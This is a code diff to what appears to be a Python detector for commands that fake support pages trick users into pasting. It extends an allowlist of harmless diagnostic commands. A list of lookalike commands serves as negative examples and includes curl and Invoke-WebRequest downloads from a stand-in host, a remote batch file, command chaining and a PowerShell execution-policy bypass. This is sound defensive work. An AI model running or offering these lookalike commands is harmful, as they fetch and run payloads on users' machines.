@@ -354,14 +354,16 @@ QUERIES = [
 # Of those, a console kept open on what only shows this computer's settings and nothing a fake
 # support page reads out as "proof" (runbox.Shape.SHOW, since design16's weighing): from any page
 PAGE_SHOWN = frozenset({"cmd /k ipconfig /all", "cmd.exe /k systeminfo", "cmd /K whoami /groups",
-                        "cmd /k getmac /v", "cmd /k driverquery /v", "cmd /k hostname"})  # fmt: skip
+                        "cmd /k getmac /v", "cmd /k driverquery /v", "cmd /k hostname",
+                        "powershell -NoExit -Command Get-NetAdapter", "powershell -NoExit Get-Volume",
+                        "pwsh -NoExit -c Get-NetIPConfiguration"})  # fmt: skip
 QUERY_LOOKALIKES = [
     "cmd /k ipconfig /all & calc", "cmd /k ipconfig /all && curl -o a.exe https://dl.quillmere.example/a",
     "cmd /c ipconfig /all | clip", "cmd /k ipconfig /release", "cmd /k ipconfig /all /all",
     "cmd /k nslookup -q=txt stage.quillmere.example", "cmd /k ping -n 1 -n 2 203.0.113.9",
     "cmd /k start https://verify.quillmere.example/", "cmd /k curl https://dl.quillmere.example/a",
     r"cmd /k \\files.quillmere.example\share\run.bat", "cmd /k systeminfo extra",
-    "cmd ipconfig /all", "cmd /k", r"cmd /k whoami /all > %TEMP%\w.txt",
+    "cmd ipconfig /all", "cmd /k", r"cmd /k whoami /all > %TEMP%\w.cmd",
     r"powershell -NoExit -Command Get-Content \\files.quillmere.example\x.txt",
     "powershell -NoExit -Command Invoke-WebRequest https://dl.quillmere.example/a",
     "powershell -w h -c Get-Process", "powershell -ep bypass -NoExit -c Get-Process",
